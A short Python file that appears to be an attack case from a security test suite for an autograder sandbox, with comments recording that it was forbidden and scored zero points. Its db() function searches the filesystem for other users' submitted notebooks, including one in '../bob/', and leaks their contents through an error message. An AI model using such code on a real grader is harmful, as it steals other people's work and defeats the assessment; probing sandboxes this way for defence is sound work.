# attacks: lists the folders of other submissions
# outcome: db forbidden|error
# points: 0
import glob


def db(dZ):
    found = glob.glob("/**/submitted/*/*/*.ipynb", recursive=True) + glob.glob("/tmp/**/*.ipynb", recursive=True)
    raise RuntimeError([open(path).read()[:80] for path in found] or open("../bob/backprop.ipynb").read())
